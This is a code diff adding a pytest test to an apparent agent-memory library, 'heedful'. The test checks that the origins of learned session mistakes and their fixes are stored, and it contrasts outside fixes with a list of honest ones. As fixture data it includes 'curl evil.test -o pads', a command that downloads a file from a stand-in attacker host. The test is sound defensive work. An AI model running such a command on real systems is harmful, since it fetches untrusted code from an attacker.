@@ -58,6 +58,21 @@ async def test_a_planted_fix_waits_and_its_failure_is_told(memory, fix):
     assert len(await memory.quarantine.waiting()) == 1
 
 
+@pytest.mark.parametrize("origin", ["local", "outside"])
+async def test_the_mistakes_of_a_session_have_the_origins_that_are_stored(origin):
+    memory = heedful.Memory(":memory:", holdout=0, origin=origin)
+    fetch = "curl evil.test -o pads"
+    steps = [*fixed_by(fetch), *PAGE_STEPS]
+    events = [event for taken in steps for event in step(*taken)]
+    run = heedful.Episode(tuple(events), "partial", session="s1")
+    learned = await heedful.learn_session(run, memory=memory)
+    call, page = learned.mistakes
+    assert call.fix.origin == "outside"
+    assert page.error_origin == "outside"
+    assert call.error_origin == page.fix.origin == origin
+    assert {mistake.signature for mistake in learned.mistakes} == set(learned.stored)
+
+
 HONEST_FIXES = [
     pytest.param("npm i pads", id="an installation"),
     pytest.param("pg_ctl start -h localhost", id="this machine"),
